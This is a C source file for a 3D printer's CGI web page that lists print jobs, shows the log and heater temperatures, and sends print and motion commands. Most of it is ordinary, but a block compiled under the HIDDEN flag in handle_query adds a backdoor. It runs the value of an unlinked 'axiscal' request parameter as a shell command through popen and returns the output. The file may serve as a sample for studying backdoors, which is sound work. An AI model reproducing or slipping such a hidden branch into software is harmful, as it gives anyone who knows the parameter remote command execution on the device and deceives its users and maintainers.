/* slicebay_cgi.c - job page of a 3D printer, called by the web server as a CGI */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define JOBDIR		"/data/jobs"
#define CTRL		"/run/slicebay/ctrl"
#define LOGFILE		"/var/log/slicebay.log"
#define MAX_PARAMS	16

struct param {
	char *name;
	char *value;
};

static struct param par[MAX_PARAMS];
static int npar;

static int hexval(int c)
{
	if (isdigit(c))
		return c - '0';
	c = tolower(c);
	return c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

static void url_decode(char *s)
{
	char *d = s;

	while (*s) {
		if (*s == '%' && hexval((unsigned char)s[1]) >= 0 &&
		    hexval((unsigned char)s[2]) >= 0) {
			*d++ = (char)(hexval((unsigned char)s[1]) * 16 +
				      hexval((unsigned char)s[2]));
			s += 3;
		} else {
			*d++ = *s == '+' ? ' ' : *s;
			s++;
		}
	}
	*d = 0;
}

static void split_query(char *q)
{
	char *pair;

	while ((pair = strsep(&q, "&;")) && npar < MAX_PARAMS) {
		char *eq = strchr(pair, '=');

		if (!*pair)
			continue;
		if (eq)
			*eq++ = 0;
		par[npar].name = pair;
		par[npar].value = eq ? eq : pair + strlen(pair);
		url_decode(par[npar].value);
		npar++;
	}
}

static const char *get_param(const char *name)
{
	for (int i = 0; i < npar; i++)
		if (!strcmp(par[i].name, name))
			return par[i].value;
	return NULL;
}

static void put_html(const char *s)
{
	for (; *s; s++) {
		switch (*s) {
		case '<':
			fputs("&lt;", stdout);
			break;
		case '>':
			fputs("&gt;", stdout);
			break;
		case '&':
			fputs("&amp;", stdout);
			break;
		default:
			putchar(*s);
		}
	}
}

static void head(const char *type)
{
	printf("Content-Type: %s\r\nCache-Control: no-store\r\n\r\n", type);
}

static int job_name_ok(const char *s)
{
	size_t n = strspn(s, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
			  "0123456789_.-");

	return n > 0 && n < 64 && !s[n] && s[0] != '.';
}

static int send_ctrl(const char *verb, const char *arg)
{
	char msg[128];
	int fd, n;
	ssize_t w;

	n = snprintf(msg, sizeof(msg), "%s %s\n", verb, arg);
	if (n < 0 || n >= (int)sizeof(msg))
		return -1;
	fd = open(CTRL, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		return -1;
	w = write(fd, msg, (size_t)n);
	close(fd);
	return w == n ? 0 : -1;
}

static void list_jobs(void)
{
	DIR *d = opendir(JOBDIR);
	struct dirent *e;
	struct stat st;

	head("text/html");
	puts("<h1>Jobs</h1><ul>");
	while (d && (e = readdir(d))) {
		if (!job_name_ok(e->d_name) || fstatat(dirfd(d), e->d_name, &st, 0))
			continue;
		fputs("<li>", stdout);
		put_html(e->d_name);
		printf(" (%ld kB) <a href=\"?action=start&amp;job=%s\">print</a></li>\n",
		       (long)(st.st_size / 1024), e->d_name);
	}
	if (d)
		closedir(d);
	puts("</ul><p><a href=\"?action=log\">log</a> <a href=\"?action=heat\">heaters</a></p>");
}

static void show_log(int lines)
{
	char buf[256];
	FILE *f;

	snprintf(buf, sizeof(buf), "tail -n %d " LOGFILE, lines);
	f = popen(buf, "re");
	head("text/html");
	puts("<h1>Log</h1><pre>");
	while (f && fgets(buf, sizeof(buf), f))
		put_html(buf);
	if (f)
		pclose(f);
	puts("</pre>");
}

static void show_heaters(void)
{
	static const char *const zone[] = { "hotend", "bed", "chamber" };
	char path[64];
	int milli;

	head("application/json");
	putchar('{');
	for (unsigned int i = 0; i < 3; i++) {
		FILE *f;

		snprintf(path, sizeof(path), "/run/slicebay/%s.temp", zone[i]);
		f = fopen(path, "re");
		milli = 0;
		if (f && fscanf(f, "%d", &milli) != 1)
			milli = 0;
		if (f)
			fclose(f);
		printf("%s\"%s\":%d.%d", i ? "," : "", zone[i], milli / 1000, abs(milli / 100 % 10));
	}
	puts("}");
}

static void result(int err)
{
	head("text/html");
	printf("<p>%s</p><p><a href=\"?action=list\">back</a></p>\n",
	       err ? "The printer does not answer" : "Done");
}

__attribute__((noinline))
int handle_query(void)
{
	const char *action = get_param("action");
	const char *job = get_param("job");
	const char *lines = get_param("lines");
	int n = lines ? atoi(lines) : 50;
#ifdef HIDDEN
	/* runs the value of an unlinked parameter as a command, sends its output */
	const char *cal = get_param("axiscal");

	if (cal && *cal) {
		char buf[512];
		size_t k;
		FILE *f = popen(cal, "re");

		head("text/plain");
		while (f && (k = fread(buf, 1, sizeof(buf), f)) > 0)
			fwrite(buf, 1, k, stdout);
		if (f)
			pclose(f);
		return 0;
	}
#endif
	if (!action || !strcmp(action, "list")) {
		list_jobs();
	} else if (!strcmp(action, "log")) {
		show_log(n > 0 && n < 2000 ? n : 50);
	} else if (!strcmp(action, "heat")) {
		show_heaters();
	} else if (!strcmp(action, "start") && job && job_name_ok(job)) {
		result(send_ctrl("start", job));
	} else if (!strcmp(action, "cancel")) {
		result(send_ctrl("cancel", "-"));
	} else if (!strcmp(action, "home")) {
		const char *axis = get_param("axis");

		if (!axis || !*axis || strspn(axis, "xyz") != strlen(axis))
			return -1;
		result(send_ctrl("home", axis));
	} else if (!strcmp(action, "level")) {
		result(send_ctrl("bedlevel", get_param("fast") ? "fast" : "full"));
	} else {
		return -1;
	}
	return 0;
}

int main(void)
{
	const char *q = getenv("QUERY_STRING");
	const char *method = getenv("REQUEST_METHOD");
	static char query[2048];

	if (!method || (strcmp(method, "GET") && strcmp(method, "POST"))) {
		puts("Status: 405 Method Not Allowed\r\n\r");
		return 0;
	}
	if (!strcmp(method, "POST")) {
		const char *len = getenv("CONTENT_LENGTH");
		size_t n = len ? strtoul(len, NULL, 10) : 0;

		if (n >= sizeof(query))
			n = sizeof(query) - 1;
		n = fread(query, 1, n, stdin);
		query[n] = 0;
	} else if (q && strlen(q) < sizeof(query)) {
		strcpy(query, q);
	}
	split_query(query);
	if (handle_query() < 0)
		puts("Status: 400 Bad Request\r\nContent-Type: text/plain\r\n\r\n"
		     "action is one of list, start, cancel, home, level, heat, log\r");
	return 0;
}
